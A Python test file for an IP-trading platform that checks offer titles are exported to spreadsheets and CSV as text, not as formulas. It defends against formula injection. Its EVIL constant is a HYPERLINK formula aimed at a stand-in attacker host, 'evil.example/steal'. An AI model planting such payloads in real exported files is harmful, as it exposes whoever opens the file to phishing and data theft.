"""What users typed leaves the platform as text, never as a spreadsheet formula: an offer titled
``=HYPERLINK(...)`` exports as a string cell in .xlsx and as a quoted field in CSV (the formula-injection
attack on whoever opens the file), the CSV imports back to the same title, and an import report shows a
rejected formula-looking value as text."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import Workbook, load_workbook

from ipplatform.auth.enums import Role
from ipplatform.common.spreadsheet import append, csv_cell, csv_uncell
from ipplatform.organisations.enums import OrgKind
from tests import factories as f

EVIL = '=HYPERLINK("http://evil.example/steal","点击查看")'


def _member(db):
    org = f.org(db, OrgKind.UNIVERSITY)
    return org, f.auth(f.user(db, org, Role.UNIVERSITY_MEMBER))


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_an_exported_title_that_looks_like_a_formula_is_a_text_cell(client, db):
    with db.begin():
        org, headers = _member(db)
        f.offer(db, org, title=EVIL)
        f.offer(db, org, title="+1 茶叶杀青技术")
    resp = client.get("/api/exports/offers", params={"format": "xlsx", "mine": True}, headers=headers)
    assert resp.status_code == 200, resp.text
    assert "<f>" not in _sheet_xml(resp.content)  # no formula element anywhere in the sheet
    cells = {c.value: c.data_type for row in load_workbook(io.BytesIO(resp.content)).worksheets[0].iter_rows()
             for c in row if isinstance(c.value, str)}
    assert cells[EVIL] == "s" and cells["+1 茶叶杀青技术"] == "s"


def test_a_csv_export_quotes_formula_fields_and_imports_back_to_the_same_title(client, db):
    with db.begin():
        org, headers = _member(db)
        offer = f.offer(db, org, title=EVIL)
        f.offer(db, org, title="@SUM(A1) 板栗脱壳")
    text = client.get("/api/exports/offers", params={"format": "csv", "mine": True}, headers=headers).content.decode("utf-8-sig")
    titles = [row["供给标题"] for row in csv.DictReader(io.StringIO(text))]
    assert sorted(titles) == sorted(["'" + EVIL, "'@SUM(A1) 板栗脱壳"])
    # the owner edits the file and imports it again: the titles are the original text, nothing is rejected
    resp = client.post("/api/imports/offers", headers=headers, data={"dry_run": "false"},
                       files={"file": ("o.csv", text.encode("utf-8-sig"))})
    assert resp.status_code == 202, resp.text
    job = client.get(f"/api/imports/jobs/{resp.json()['id']}", headers=headers).json()
    assert job["status"] == "done" and job["result"]["rejected"] == [], job
    assert job["result"]["new"] == 0  # the same offers, matched again, not copies with a quote mark
    db.expire_all()
    assert db.get(type(offer), offer.id).title == EVIL


def test_an_import_report_shows_a_rejected_formula_value_as_text(client, db):
    with db.begin():
        org, headers = _member(db)
        f.patent(db, org)
    offers = ("供给标题,专利申请号,交易方式\n"
              f"茶叶杀青装置转让,=1+1,转让\n")
    resp = client.post("/api/imports/offers", headers=headers, data={"dry_run": "true"},
                       files={"file": ("o.csv", offers.encode())})
    assert resp.status_code == 202, resp.text
    job = client.get(f"/api/imports/jobs/{resp.json()['id']}", headers=headers).json()
    assert any(r["value"] == "=1+1" for r in job["result"]["rejected"]), job["result"]
    report = client.get(f"/api/imports/jobs/{job['id']}/report.xlsx", headers=headers)
    assert report.status_code == 200
    assert "<f>" not in _sheet_xml(report.content)
    values = [c for row in load_workbook(io.BytesIO(report.content)).worksheets[0].iter_rows() for c in row]
    assert [c.data_type for c in values if c.value == "=1+1"] == ["s"]


def test_append_keeps_strings_text_in_normal_and_write_only_sheets():
    for write_only in (False, True):
        book = Workbook(write_only=write_only)
        ws = book.create_sheet("s") if write_only else book.active
        append(ws, ["=1+1", 3, None, "普通文字"])
        buf = io.BytesIO()
        book.save(buf)
        row = next(load_workbook(io.BytesIO(buf.getvalue())).worksheets[0].iter_rows())
        assert [(c.value, c.data_type) for c in row] == [("=1+1", "s"), (3, "n"), (None, "n"), ("普通文字", "s")]


def test_csv_marks_round_trip():
    for value in ("=1+1", "+86 376", "-5", "@x", "\tx", "茶叶", "'已有引号", "'", "'=x", "''+x"):
        assert csv_uncell(csv_cell(value)) == value
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("茶叶") == "茶叶"
